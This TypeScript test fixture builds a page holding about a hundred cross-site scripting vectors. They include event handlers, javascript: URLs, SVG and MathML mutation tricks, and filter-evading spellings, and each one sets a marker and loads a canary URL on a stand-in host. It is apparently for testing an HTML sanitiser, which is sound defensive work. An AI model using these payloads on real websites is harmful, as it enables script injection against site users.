/**
 * Ways of making a page run what its readers wrote, by the places they use: handlers, foreign elements,
 * addresses, documents inside documents, mark-up that changes its meaning when it is parsed twice, styles.
 * They cover the classes of the published collections (the cheat sheets of OWASP and of PortSwigger, the
 * HTML5 security cheat sheet, the fixtures of DOMPurify), in words of our own.
 * Every one of them would leave a number in `window.ran` and knock at the stand-in's `/canary`.
 */
import { WEB } from "./web";

const script = (n: number) => `window.ran=(window.ran||[]).concat(${n});new Image().src='${WEB}/canary?${n}'`;

/** One piece of mark-up for each way; `js` runs, `js` in an attribute is quoted by double quotes. */
const WAYS: readonly ((js: string, n: number) => string)[] = [
  (js) => `<script>${js}</script>`,
  (js) => `<scr<script></script>ipt>${js}</script>`,
  (js) => `<img src="nope" onerror="${js}">`,
  (js) => `<img src=nope onerror = "${js}" alt="">`,
  (js) => `<IMG """><script>${js}</script>">`,
  (js) => `<body onload="${js}">`,
  (js) => `<p onmouseover="${js}" onfocus="${js}" tabindex="0" autofocus>дума</p>`,
  (js) => `<input autofocus onfocus="${js}">`,
  (js) => `<details open ontoggle="${js}"><summary>още</summary>дума</details>`,
  (js) => `<video autoplay onloadstart="${js}"><source onerror="${js}"></video>`,
  (js) => `<audio src="nope" onerror="${js}"></audio>`,
  (js) => `<marquee onstart="${js}">дума</marquee>`,
  (js) => `<svg onload="${js}"></svg>`,
  (js) => `<svg><script>${js}</script></svg>`,
  (js) => `<svg><animate onbegin="${js}" attributeName="x" dur="1s"></animate></svg>`,
  (js) => `<svg><a xlink:href="javascript:${js}"><text>дума</text></a></svg>`,
  (js) =>
    `<svg><foreignObject><iframe srcdoc="<script>parent.${js}</script>"></iframe></foreignObject></svg>`,
  (js) =>
    `<svg><use href="data:image/svg+xml,<svg id='x' onload='${js.replaceAll("'", "")}'/>#x"></use></svg>`,
  (js) => `<math><mi xlink:href="javascript:${js}">дума</mi></math>`,
  (js) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${js}&gt;">`,
  (js) => `<iframe src="javascript:parent.${js}"></iframe>`,
  (js) => `<iframe srcdoc="<img src=nope onerror=&quot;parent.${js}&quot;>"></iframe>`,
  (_, n) => `<iframe src="${WEB}/canary?${n}"></iframe>`,
  (_, n) => `<object data="${WEB}/canary?${n}"></object><embed src="${WEB}/canary?${n}">`,
  (_, n) =>
    `<link rel="stylesheet" href="${WEB}/canary?${n}"><link rel="prefetch" href="${WEB}/canary?${n}">`,
  (_, n) => `<style>@import url("${WEB}/canary?${n}"); p { background: url("${WEB}/canary?${n}") }</style>`,
  (_, n) => `<p style="background-image:url(${WEB}/canary?${n})">дума</p>`,
  (_, n) =>
    `<img src="${WEB}/canary?${n}" srcset="${WEB}/canary?${n} 2x"><picture><source srcset="${WEB}/canary?${n}"></picture>`,
  (_, n) => `<meta http-equiv="refresh" content="0;url=${WEB}/canary?${n}">`,
  (_, n) => `<base href="${WEB}/canary?${n}">`,
  (_, n) => `<form action="${WEB}/canary?${n}"><button formaction="${WEB}/canary?${n}">дума</button></form>`,
  (js) => `<a href="javascript:${js}">дума</a>`,
  (js) => `<a href="  java\nscript:${js}">дума</a>`,
  (js) => `<a href="&#106;avascript&colon;${js}">дума</a>`,
  (js) => `<a href="data:text/html,<script>${js}</script>">дума</a>`,
  (js) => `<a href="vbscript:${js}">дума</a>`,
  (js) => `<noscript><p title="</noscript><img src=nope onerror=&quot;${js}&quot;>">дума</p></noscript>`,
  (js) => `<template><img src=nope onerror="${js}"></template>`,
  (js) => `<xmp><p title="</xmp><img src=nope onerror=&quot;${js}&quot;>"></xmp>`,
  (js) => `<textarea><img title="</textarea><img src=nope onerror=&quot;${js}&quot;>"></textarea>`,
  (js) => `<title><img title="</title><img src=nope onerror=&quot;${js}&quot;>"></title>`,
  (js) => `<select><style></select><img src=nope onerror="${js}"></style></select>`,
  (js) => `<!--><img src=nope onerror="${js}">-->`,
  (js) => `<![CDATA[<img src=nope onerror="${js}">]]>`,
  (js) => `<?xml-stylesheet href="javascript:${js}"?>`,
  (js) => `<x-y onclick="${js}" is="script">дума</x-y>`,
  (js) => `<p id="location" name="cookie" contenteditable onbeforeinput="${js}">дума</p>`,
  (js) => `&lt;img src=nope onerror="${js}"&gt;`,
  (js) => `&amp;lt;script&amp;gt;${js}&amp;lt;/script&amp;gt;`,
  (js) => `{{constructor.constructor("${js}")()}} \${${js}}`,
  // Events that need nobody's hand: animations, transitions, media, pages, elements that open or scroll.
  (js, n) =>
    `<style>@keyframes z${n}{}</style><b style="animation:z${n} 1s" onanimationstart="${js}" onanimationend="${js}" onwebkitanimationstart="${js}">дума</b>`,
  (js) =>
    `<b style="transition:outline 1s" ontransitionend="${js}" ontransitionrun="${js}" tabindex=1 autofocus>дума</b>`,
  (js) =>
    `<video controls autoplay oncanplay="${js}" onerror="${js}" onloadedmetadata="${js}"><track default oncuechange="${js}"></video>`,
  (js) =>
    `<div popover id="z" onbeforetoggle="${js}" ontoggle="${js}">дума</div><button popovertarget="z">още</button>`,
  (js) => `<dialog open onclose="${js}" oncancel="${js}">дума</dialog>`,
  (js) =>
    `<div style="overflow:auto;height:1px" onscroll="${js}" onscrollend="${js}"><br><br><b autofocus tabindex=1>дума</b></div>`,
  (js) =>
    `<p onpointerrawupdate="${js}" onpointerenter="${js}" ontouchstart="${js}" onwheel="${js}" oncopy="${js}">дума</p>`,
  (js) =>
    `<b oncontentvisibilityautostatechange="${js}" style="display:block;content-visibility:auto">дума</b>`,
  (js) =>
    `<frameset onpageshow="${js}" onhashchange="${js}" onfocus="${js}"><frame src="javascript:parent.${js}"></frameset>`,
  (js) =>
    `<select onfocus="${js}" autofocus><option>дума</option></select><isindex type=image src=nope onerror="${js}">`,
  // Tags and attributes in spellings that a parser mends and a filter does not expect.
  (js) => `<sCrIpT x>${js}</ScRiPt x>`,
  (js) => `<script/src="data:text/javascript,${js}"></script>`,
  (js) => `<script ~~~>${js}</script ~~~>`,
  (js) => `<img/src=nope/onerror="${js}">`,
  (js) => `<img\u000csrc=nope\u000conerror="${js}">`,
  (js) => `<img src=nope onerror\n=\n"${js}"//>`,
  (js) => `<img src="nope" a=">" onerror="${js}">`,
  (js) => `<img src=\`nope\` onerror=\`${js}\` onload="${js}">`,
  (js) => `<svg/onload="${js}"//<p>дума`,
  (js) => `<<img src=nope onerror="${js}">`,
  (js) => `</p/onclick="${js}"><p onclick="${js}"/дума>`,
  (js) => `<div ="<img src=nope onerror=${js}>" title='"><img src=nope onerror="${js}">'>дума</div>`,
  (js) => `<!-- --!><img src=nope onerror="${js}"> -->`,
  (js) => `<!doctype x [<!ENTITY z "<img src=nope onerror='${js}'>">]>&z;`,
  // Addresses whose scheme is hidden, and elements that take one.
  (js) => `<a href="\u0001javascript:${js}">дума</a><a href="java&Tab;script&NewLine;:${js}">дума</a>`,
  (js) => `<a href="JaVaScRiPt://x%0a${js}">дума</a><a href="javascript:'<b>'+${js}">дума</a>`,
  (js) => `<area href="javascript:${js}"><map name="z"><area shape="default" href="javascript:${js}"></map>`,
  (js) =>
    `<form id="z" action="javascript:${js}"></form><input form="z" type="submit" formaction="javascript:${js}">`,
  (js) =>
    `<object data="javascript:${js}"></object><embed src="javascript:${js}"><applet code="javascript:${js}">`,
  (js) =>
    `<iframe src="data:text/html;base64,${Buffer.from(`<script>parent.${js}</script>`).toString("base64")}"></iframe>`,
  (js) => `<a href="https://x.example/&quot;onmouseover=&quot;${js}">дума</a>`,
  (_, n) =>
    `<a href="https://x.example/" ping="${WEB}/canary?${n}">дума</a><body background="${WEB}/canary?${n}">`,
  (_, n) =>
    `<video poster="${WEB}/canary?${n}"></video><input type="image" src="${WEB}/canary?${n}"><svg><image href="${WEB}/canary?${n}"/></svg>`,
  (_, n) =>
    `<link rel="dns-prefetch preconnect modulepreload icon" href="${WEB}/canary?${n}"><script type="speculationrules">{"prefetch":[{"urls":["${WEB}/canary?${n}"]}]}</script>`,
  // Foreign elements, and what changes its meaning between two parsings.
  (js) =>
    `<svg><set attributeName="onmouseover" to="${js}"/><animate xlink:href="#z" attributeName="href" values="javascript:${js}"/></svg>`,
  (js) =>
    `<svg><style><img src=nope onerror="${js}"></style><desc><img src=nope onerror="${js}"></desc></svg>`,
  (js) => `<svg></p><style><g title="</style><img src=nope onerror=&quot;${js}&quot;>">`,
  (js) => `<math><mtext></form><form><mglyph><style></math><img src=nope onerror="${js}"></style>`,
  (js) =>
    `<math><annotation-xml encoding="text/html"><style><img src=nope onerror="${js}"></style></annotation-xml></math>`,
  (js) =>
    `<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img src=nope onerror=&quot;${js}&quot;>">`,
  (js) =>
    `<noembed><p title="</noembed><img src=nope onerror=&quot;${js}&quot;>"></noembed><noframes><p title="</noframes><img src=nope onerror=&quot;${js}&quot;>"></noframes>`,
  (js) =>
    `<listing>&lt;img src=nope onerror="${js}"&gt;</listing><pre>\n&lt;script&gt;${js}&lt;/script&gt;</pre>`,
  (js) => `<div><template shadowrootmode="open"><img src=nope onerror="${js}"></template></div>`,
  (js) =>
    `<form name="body"><input name="attributes"><input name="parentNode" onfocus="${js}"></form><a id="__NEXT_DATA__" name="next">дума</a>`,
  (js) =>
    `<b title="&lt;/b&gt;&lt;script&gt;${js}&lt;/script&gt;">&#x3c;script&#x3e;${js}&#x3c;/script&#x3e;</b>`,
  (js) => `\u202e<b onclick="${js}">думи назад</b>\u2066 </script><script>${js}</script>`,
];

const attribute = (text: string) => text.replaceAll("&", "&amp;").replaceAll('"', "&quot;");

/** Closes whatever a piece may have opened, so that it does not swallow the next one. */
const CLOSED =
  "--></style></script></title></textarea></xmp></select></table></math></svg></template></noscript>" +
  "</applet></mglyph></form></mtext></math></form>";

/** A page whose every part is hostile: title, author, metadata, headline, text, lists, tables, posts. */
export function hostilePage(): string {
  const pieces = WAYS.map((way, n) => `${way(script(n), n)}${CLOSED}`);
  const first = (n: number) => pieces[n] ?? "";
  const data = JSON.stringify({
    "@type": "NewsArticle",
    headline: `Заглавие ${first(2)}`,
    author: { name: `Автор ${first(12)}` },
    publisher: { name: `Издание ${first(0)}` },
  }).replaceAll("<", "\\u003c");
  const post = (n: number) =>
    `<blockquote class="twitter-tweet"><p lang="en">Post ${attribute(first(n))} ${first(n)}</p>&mdash; ` +
    `Name ${attribute(first(2))} (@handle) <a href="javascript:${script(900)}">${attribute(first(2))}</a> ` +
    `<a href="https://x.example/u/status/1&quot; onclick=&quot;${script(901)}">May 1</a></blockquote>`;
  const filler = "Около 1200 души прекараха нощта в залата, съобщиха от общината, а водата дойде с цистерни.";
  return `<!doctype html><html lang="bg&quot; onload=&quot;${script(902)}"><head>
<meta property="og:title" content="${attribute(`Заглавие ${first(2)}`)}">
<meta name="author" content="${attribute(first(12))}">
<link rel="canonical" href="javascript:${script(903)}">
<script type="application/ld+json">${data}</script></head>
<body onload="${script(904)}"><article><h1>Заглавие ${first(2)}</h1>
${pieces.map((piece) => `<p>${filler}</p><div>${filler} ${piece}</div>`).join("\n")}
<ul>${pieces.map((piece) => `<li>точка ${piece}</li>`).join("")}</ul>
${[0, 2, 12, 20].map(post).join("\n")}
<p>${filler} Край на статията.</p></article></body></html>`;
}
